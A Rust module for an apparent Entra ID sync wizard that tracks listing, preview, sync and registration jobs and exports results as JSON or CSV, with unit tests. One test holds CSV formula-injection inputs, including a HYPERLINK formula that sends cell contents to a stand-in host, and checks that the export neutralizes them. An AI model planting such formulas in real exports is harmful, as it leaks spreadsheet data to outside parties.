//! Listing, preview and synchronization jobs between the wizard's calls: rows read so far,
//! previewed plans (Synchronize applies exactly what was previewed), sync progress and results,
//! and previewed registrations (Create and sign in applies exactly what was previewed).

use aadsync_directory::graph::GraphClient;
use aadsync_ipc as ipc;
use aadsync_ipc::IpcError;
use aadsync_sync::engine::Cancel;
use aadsync_sync::register::RegistrationPlan;
use aadsync_sync::run::PlannedRun;
use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, PoisonError};

#[derive(Debug, Default)]
pub struct Listing {
    pub rows: Vec<ipc::DirectoryEntry>,
    pub done: bool,
    pub error: Option<IpcError>,
}

/// What step 6 shows between Cancel and the run's end.
pub const CANCELLING: &str = "Cancelling…";

pub struct SyncJob {
    pub phase: Mutex<(String, u8)>,
    /// Cancel stops the run before its transaction or rolls the transaction back; after the
    /// commit it changes nothing.
    pub cancel: Arc<Cancel>,
    pub finished: Mutex<Option<Result<ipc::SyncResult, IpcError>>>,
}

#[derive(Debug, Default)]
pub struct Jobs {
    next: AtomicU64,
    listings: Mutex<HashMap<u64, Arc<Mutex<Listing>>>>,
    plans: Mutex<HashMap<u64, Arc<PlannedRun>>>,
    syncs: Mutex<HashMap<u64, Arc<SyncJob>>>,
    results: Mutex<HashMap<i64, ipc::SyncResult>>,
    plan_progress: Mutex<ipc::PlanProgress>,
    registrations: Mutex<HashMap<u64, PendingRegistration>>,
}

/// A previewed automatic registration: the plan the administrator saw and the bootstrap
/// sign-in's Graph client that writes it. Only in memory, and dropped (tokens and all) when
/// applied or cancelled: the bootstrap sign-in is never saved.
#[derive(Debug)]
pub struct PendingRegistration {
    pub graph: GraphClient,
    pub plan: RegistrationPlan,
    pub account: String,
}

fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(PoisonError::into_inner)
}

impl Jobs {
    fn id(&self) -> u64 {
        self.next.fetch_add(1, Ordering::Relaxed) + 1
    }

    pub fn keep_registration(&self, pending: PendingRegistration) -> u64 {
        let id = self.id();
        lock(&self.registrations).insert(id, pending);
        id
    }

    /// Put back under its id after a failed or refused write, so Create can be tried again.
    pub fn put_back_registration(&self, id: u64, pending: PendingRegistration) {
        lock(&self.registrations).insert(id, pending);
    }

    /// Taken out while it is written, so a second Create cannot write it twice.
    pub fn take_registration(&self, id: u64) -> Option<PendingRegistration> {
        lock(&self.registrations).remove(&id)
    }

    pub fn new_listing(&self) -> (u64, Arc<Mutex<Listing>>) {
        let id = self.id();
        let listing = Arc::new(Mutex::new(Listing::default()));
        let mut all = lock(&self.listings);
        // Only the newest listing matters; older ones (an earlier search) are dropped.
        all.clear();
        all.insert(id, Arc::clone(&listing));
        (id, listing)
    }

    pub fn listing(&self, id: u64) -> Option<Arc<Mutex<Listing>>> {
        lock(&self.listings).get(&id).cloned()
    }

    pub fn add_plan(&self, plan: Arc<PlannedRun>) -> u64 {
        let id = self.id();
        let mut plans = lock(&self.plans);
        plans.clear();
        plans.insert(id, plan);
        id
    }

    pub fn plan(&self, id: u64) -> Option<Arc<PlannedRun>> {
        lock(&self.plans).get(&id).cloned()
    }

    pub fn new_sync(&self) -> (u64, Arc<SyncJob>) {
        let id = self.id();
        let job = Arc::new(SyncJob {
            phase: Mutex::new(("Starting".into(), 0)),
            cancel: Arc::default(),
            finished: Mutex::new(None),
        });
        lock(&self.syncs).insert(id, Arc::clone(&job));
        (id, job)
    }

    pub fn sync(&self, id: u64) -> Option<Arc<SyncJob>> {
        lock(&self.syncs).get(&id).cloned()
    }

    pub fn set_plan_progress(&self, phase: &str, done: u64) {
        *lock(&self.plan_progress) = ipc::PlanProgress {
            phase: phase.to_owned(),
            done,
        };
    }

    pub fn plan_progress(&self) -> ipc::PlanProgress {
        lock(&self.plan_progress).clone()
    }

    pub fn keep_result(&self, result: &ipc::SyncResult) {
        lock(&self.results).insert(result.run_id, result.clone());
    }

    pub fn result(&self, run_id: i64) -> Option<ipc::SyncResult> {
        lock(&self.results).get(&run_id).cloned()
    }
}

impl std::fmt::Debug for SyncJob {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("SyncJob")
            .field("cancel", &self.cancel)
            .finish_non_exhaustive()
    }
}

impl SyncJob {
    /// Cancel: the run stops or rolls back (or, already committed, stays). Until it ends, the
    /// wizard shows that the Cancel was received.
    pub fn cancel(&self) {
        self.cancel.cancel();
        let mut phase = lock(&self.phase);
        if lock(&self.finished).is_none() {
            phase.0 = CANCELLING.to_owned();
        }
    }

    pub fn set_phase(&self, label: &str, percent: u8) {
        *lock(&self.phase) = (label.to_owned(), percent);
    }

    pub fn finish(&self, result: Result<ipc::SyncResult, IpcError>) {
        *lock(&self.finished) = Some(result);
    }

    pub fn status(&self) -> ipc::SyncStatus {
        let (phase, percent) = lock(&self.phase).clone();
        ipc::SyncStatus {
            phase,
            percent,
            finished: lock(&self.finished).clone(),
        }
    }
}

/// A listing row ready to store.
pub fn listing_push(listing: &Mutex<Listing>, rows: Vec<ipc::DirectoryEntry>) {
    lock(listing).rows.extend(rows);
}

pub fn listing_end(listing: &Mutex<Listing>, error: Option<IpcError>) {
    let mut l = lock(listing);
    l.done = true;
    l.error = error;
}

pub fn listing_page(listing: &Mutex<Listing>, offset: u32) -> ipc::ListingPage {
    const MAX_ROWS: usize = 5_000;
    let l = lock(listing);
    let start = (offset as usize).min(l.rows.len());
    let end = (start + MAX_ROWS).min(l.rows.len());
    ipc::ListingPage {
        rows: l.rows[start..end].to_vec(),
        loaded: l.rows.len() as u32,
        done: l.done && end == l.rows.len(),
        error: if end == l.rows.len() {
            l.error.clone()
        } else {
            None
        },
    }
}

/// A result as JSON, every text exactly as Entra ID gave it.
pub fn to_json(result: &ipc::SyncResult) -> Result<String, IpcError> {
    serde_json::to_string_pretty(result).map_err(|e| IpcError::internal(e.to_string()))
}

/// A result as CSV (RFC 4180 quoting; formula triggers neutralized, see `export::csv_field`).
pub fn to_csv(result: &ipc::SyncResult) -> String {
    let quote = crate::export::csv_field;
    let mut out = String::from("type,object_id,display_name,outcome,detail\r\n");
    for row in &result.rows {
        let kind = match row.kind {
            ipc::EntryKind::User => "user",
            ipc::EntryKind::Group => "group",
        };
        let outcome = match row.outcome {
            ipc::Outcome::Create => "created",
            ipc::Outcome::Update => "updated",
            ipc::Outcome::Unchanged => "unchanged",
            ipc::Outcome::Disable => "disabled",
            ipc::Outcome::Delete => "deleted",
            ipc::Outcome::Conflict => "failed",
        };
        out.push_str(&format!(
            "{kind},{},{},{outcome},{}\r\n",
            quote(&row.id),
            quote(&row.display_name),
            quote(&row.detail)
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cancel_shows_until_the_run_ends_and_never_relabels_a_finished_run() {
        let jobs = Jobs::default();
        let (_, running) = jobs.new_sync();
        running.set_phase("Writing to the database", 60);
        running.cancel();
        assert!(running.cancel.is_requested());
        assert_eq!(running.status().phase, CANCELLING);
        assert_eq!(running.status().percent, 60);

        let (_, finished) = jobs.new_sync();
        finished.set_phase("Done", 100);
        finished.finish(Err(IpcError::internal("x")));
        finished.cancel();
        assert_eq!(finished.status().phase, "Done");
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let result = ipc::SyncResult {
            run_id: 1,
            counts: ipc::Counts::default(),
            duration_ms: 5,
            rows: vec![ipc::OutcomeRow {
                kind: ipc::EntryKind::User,
                id: "o-1".into(),
                display_name: "Lee, \"Ann\"".into(),
                outcome: ipc::Outcome::Conflict,
                detail: "the account name a@b is already used".into(),
            }],
        };
        assert_eq!(
            to_csv(&result),
            "type,object_id,display_name,outcome,detail\r\nuser,o-1,\"Lee, \"\"Ann\"\"\",failed,the account name a@b is already used\r\n"
        );
    }

    #[test]
    fn csv_neutralizes_formulas_and_json_stays_exact() {
        let names = [
            "=HYPERLINK(\"https://x/?\"&A1,\"open\")",
            "+1",
            "-1",
            "@A1",
            "\tx",
            "\rx",
        ];
        for name in names {
            let result = ipc::SyncResult {
                run_id: 1,
                counts: ipc::Counts::default(),
                duration_ms: 5,
                rows: vec![ipc::OutcomeRow {
                    kind: ipc::EntryKind::Group,
                    id: "o-1".into(),
                    display_name: name.into(),
                    outcome: ipc::Outcome::Create,
                    detail: name.into(),
                }],
            };
            let csv = to_csv(&result);
            let cell = crate::export::csv_field(name);
            assert!(cell.starts_with("\"'"), "{name:?}: {cell}");
            assert!(
                csv.contains(&format!("group,o-1,{cell},created,{cell}\r\n")),
                "{csv}"
            );
            let json = to_json(&result).unwrap_or_default();
            let back: serde_json::Value = serde_json::from_str(&json).unwrap_or_default();
            assert_eq!(back["rows"][0]["display_name"], name);
            assert_eq!(back["rows"][0]["detail"], name);
        }
    }

    #[test]
    fn pages_end_with_the_error() {
        let listing = Mutex::new(Listing::default());
        let row = |i: usize| ipc::DirectoryEntry {
            id: i.to_string(),
            kind: ipc::EntryKind::User,
            display_name: String::new(),
            principal: String::new(),
            department: String::new(),
            guest: false,
            disabled: false,
            imported: false,
        };
        listing_push(&listing, (0..7_000).map(row).collect());
        listing_end(&listing, Some(IpcError::internal("throttled")));
        let first = listing_page(&listing, 0);
        assert_eq!(
            (first.rows.len(), first.done, first.error.is_some()),
            (5_000, false, false)
        );
        let second = listing_page(&listing, 5_000);
        assert_eq!(
            (second.rows.len(), second.done, second.error.is_some()),
            (2_000, true, true)
        );
    }
}
